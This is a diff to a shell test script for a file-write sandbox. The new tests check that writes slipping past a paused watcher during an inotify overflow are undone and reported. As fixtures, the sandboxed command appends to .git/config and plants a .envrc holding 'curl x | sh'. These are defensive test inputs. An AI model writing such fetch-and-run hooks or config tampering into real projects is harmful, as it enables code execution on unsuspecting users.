@@ -16,10 +16,10 @@
 . "$(dirname "$0")/lib.sh"
 need_bwrap
 P="$WORK/proj"
-command -v git >/dev/null 2>&1 || { skip_rest 4 "git missing"; echo "1..$_tap_n"; exit 0; }
+command -v git >/dev/null 2>&1 || { skip_rest 6 "git missing"; echo "1..$_tap_n"; exit 0; }
 max=$(cat /proc/sys/fs/inotify/max_queued_events 2>/dev/null || echo 16384)
 if [ "$max" -gt 200000 ]; then
-	skip_rest 4 "fs.inotify.max_queued_events is $max: too many events to make cheaply"
+	skip_rest 6 "fs.inotify.max_queued_events is $max: too many events to make cheaply"
 	echo "1..$_tap_n"; exit 0
 fi
 cd "$P" && command git -c init.defaultBranch=main init -q . || exit 1
@@ -76,5 +76,47 @@ if grep -q PWN "$P/.git/config" || ! grep -q 'lost events' "$WORK/bg.out"; then
 	echo "# load: $(cat /proc/loadavg)"
 	grep -v 'Read-only file system' "$WORK/bg.out" | sed 's/^/# bg.out: /' | head -30
 fi
-rm -f "$P/ovf-a" "$P/ovf-b"
+rm -f "$P/ovf-a" "$P/ovf-b" "$P"/started "$P"/go "$P"/go2 "$P"/written "$P"/done2 "$P"/stop "$P"/wrote*
+
+# 5-6. the same overflow with the watcher still held stopped when the
+# command ends, and 6 s past it (a machine so loaded that the watcher is
+# that far behind: srt stopped it 4.5 s after the end and the write
+# stayed). Its last pass, after the lost events, lists the directories
+# and checks every name: .git/config is put back, and a .envrc the
+# command made in a new directory while nobody looked is moved aside,
+# each reported by name
+printf '[core]\n\tbare = false\n' > "$P/.git/config"
+rm -rf "$P/sub"
+srt__bg -s "$S" -c 'touch started; while [ ! -e go ]; do sleep 0.02; done
+	printf "PWN3\n" >> .git/config && touch wrote3; mkdir sub && echo "curl x | sh" > sub/.envrc; touch ended'
+pid=$!
+wait_for "$P/started" 100
+wpid=$(find_watcher "$pid")
+if [ -n "$wpid" ] && kill -STOP "$wpid"; then
+	printf '[core]\n\tbare = false\n# host\n' > "$P/.git/config.lock" && mv "$P/.git/config.lock" "$P/.git/config"
+	touch "$P/go"; wait_for "$P/ended" 100
+	"$PY" - "$P" "$((max + 2000))" <<'PYEOF'
+import os, sys
+d, n = sys.argv[1], int(sys.argv[2])
+fds = [os.open(os.path.join(d, x), os.O_WRONLY | os.O_CREAT, 0o644) for x in ("ovf-a", "ovf-b")]
+for i in range(n):
+    os.write(fds[i % 2], b"x")
+PYEOF
+	sleep 6
+	kill -CONT "$wpid"
+	bg_wait "$pid"
+	attempt H1 "overflow, the watcher behind past the command's end: the write undone" \
+		sh -c "test -e '$P/wrote3' && ! grep -q PWN '$P/.git/config' && grep -q '^\[core\]' '$P/.git/config'"
+	attempt H1 "overflow, the watcher behind past the command's end: a .envrc made while events were lost moved aside; both reported by name" \
+		sh -c "test -e '$P/ended' && ! grep -qs curl '$P/sub/.envrc' && grep -q 'deny write .*\.git/config' '$WORK/bg.out' && grep -q 'deny write .*sub/\.envrc' '$WORK/bg.out'"
+	if grep -q PWN "$P/.git/config" || grep -qs curl "$P/sub/.envrc"; then
+		echo "# load: $(cat /proc/loadavg)"
+		grep -v 'Read-only file system' "$WORK/bg.out" | sed 's/^/# bg.out: /' | head -30
+	fi
+else
+	touch "$P/go"; bg_wait "$pid"
+	attempt H1 "overflow past the command's end: found the watcher process" false
+	skip "H1 overflow past the command's end: no watcher"
+fi
+rm -rf "$P/ovf-a" "$P/ovf-b" "$P/sub"
 echo "1..$_tap_n"
